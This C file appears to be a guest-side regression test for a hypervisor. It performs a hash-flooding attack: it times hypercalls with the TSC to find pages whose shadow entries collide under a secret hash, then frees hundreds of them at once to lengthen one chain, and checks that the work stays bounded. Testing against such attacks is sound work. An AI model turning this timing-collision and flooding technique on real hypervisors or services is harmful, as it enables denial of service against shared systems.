// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Hash flooding (CVE-2011-4885 and similar). Shadows are found by a multiplicative hash with a
 * secret chosen at boot. DROP_ROOT of a page that is not a root walks one hash chain for each CPU
 * and changes nothing, so its duration shows how long the chains are, and thus which pages collide.
 * Attack: find hundreds of colliding pages by timing with the TSC, use them as last-level tables,
 * and have all of them freed at once. That took 88 505 instructions in one stay when steps along a
 * chain were not charged.
 * Expected: no stay is longer than one part of work and two walks of the chain. Needs 1000 MiB.
 */
#include "guest.h"

#define P      0x67
#define WANT   800
#define TRIES  3
#define PROBES 16
#define SEEDS  16

static uint64_t spare_root[512] __attribute__((aligned(4096)));
static uint64_t level3[512] __attribute__((aligned(4096)));
static uint64_t level2[2][512] __attribute__((aligned(4096)));
static uint64_t data[512] __attribute__((aligned(4096)));
static uint64_t found[WANT], probe[PROBES], before[PROBES];
static unsigned founds, probes;
static uint64_t first, last;

static inline uint64_t now(void)
{
	uint32_t lo, hi;

	__asm__ volatile("lfence; rdtsc" : "=a"(lo), "=d"(hi)::"memory");
	return (uint64_t)hi << 32 | lo;
}

static void drop(uint64_t x)
{
	veneer_hypercall(VENEER_HC_MMU_DROP_ROOT, x, 0, 0);
}

static uint64_t cost(uint64_t x)
{
	uint64_t best = ~0ull;

	for (unsigned i = 0; i < TRIES; i++) {
		uint64_t t = now();

		drop(x);
		t = now() - t;
		best = t < best ? t : best;
	}
	return best;
}

static void load(const uint64_t *root)
{
	veneer_hypercall(VENEER_HC_MMU_LOAD_ROOT, (uint64_t)root, 0, 0);
}

/* Makes x a root that the hypervisor keeps, and returns to our own. */
static void add(uint64_t x)
{
	((volatile uint64_t *)x)[0] = veneer_root()[0];
	load((uint64_t *)x);
	load(veneer_root());
}

static void take_away(uint64_t x)
{
	drop(x);
	((volatile uint64_t *)x)[0] = 0;
}

/* Whether making x a root lengthens the chains of all probes. */
static bool collides(uint64_t x)
{
	bool all = true;

	add(x);
	for (unsigned i = 0; i < PROBES && all; i++)
		all = cost(probe[i]) > before[i];
	take_away(x);
	return all;
}

static bool is_known(uint64_t x)
{
	for (unsigned i = 0; i < founds; i++)
		if (found[i] == x)
			return true;
	return false;
}

static bool is_probe(uint64_t x)
{
	for (unsigned i = 0; i < PROBES; i++)
		if (probe[i] == x)
			return true;
	return false;
}

static unsigned tried;

static void try(uint64_t x)
{
	if (x < first || x >= last || founds == WANT || is_known(x) || is_probe(x))
		return;
	tried++;
	if (collides(x))
		found[founds++] = x;
}

static void find(void)
{
	uint64_t start = (first + last) / 2 & ~4095ull, x;
	static uint64_t without[4096];

	/* probes: addresses whose chains get longer when start is a root */
	for (unsigned i = 1; i < 4096 && probes < PROBES; i++)
		without[i] = cost(first + i * 4096ull);
	add(start);
	for (unsigned i = 1, hits = 0; i < 4096 && probes < PROBES; i++)
		if (cost(first + i * 4096ull) > without[i] && hits++ % 13 == 0) {
			before[probes] = without[i];
			probe[probes++] = first + i * 4096ull;
		}
	take_away(start);
	say("%d probes\n", probes);
	if (probes < PROBES)
		return;
	found[founds++] = start;
	for (x = start + 4096; founds < SEEDS && x < last; x += 4096)
		try(x);
	say("%d found by trying %d\n", founds, tried);
	/* with this hash, the difference of two colliding addresses leads to more of them */
	for (unsigned i = 0; i < founds && founds < WANT; i++)
		for (unsigned k = 1; k < SEEDS; k++) {
			uint64_t d = found[k] - found[0];

			try(found[i] + d);
			try(found[i] - d);
		}
	for (x = first; x < last && founds < WANT; x += 4096)
		try(x);
	say("%d found by trying %d\n", founds, tried);
}

int guest_main(const struct veneer_start_info *info)
{
	first = (info->reserved_end + 0x400000) & ~0x1fffffull;
	last = info->memory;
	if (info->memory < 1000ull << 20) {
		say("wants 1000 MiB\n");
		return 1;
	}
	find();
	if (!founds)
		return 1;
	for (unsigned i = 0; i < founds; i++) {
		((volatile uint64_t *)found[i])[0] = (uint64_t)data | P;
		level2[i / 512][i % 512] = found[i] | P;
	}
	level3[0] = (uint64_t)level2[0] | P;
	level3[1] = (uint64_t)level2[1] | P;
	spare_root[0] = veneer_root()[0];
	spare_root[1] = (uint64_t)level3 | P;
	for (unsigned round = 0; round < 3; round++) {
		load(spare_root);
		for (unsigned i = 0; i < founds; i++)
			(void)*(volatile uint64_t *)(0x8000000000 + ((uint64_t)i << 21));
		load(veneer_root());
		drop((uint64_t)spare_root);
		/* new roots need pages, so the freed tables are reused */
		for (unsigned i = 0; i < 900; i++)
			add(first + i * 4096ull);
	}
	say("%d tables in one chain\n", founds);
	return 0;
}
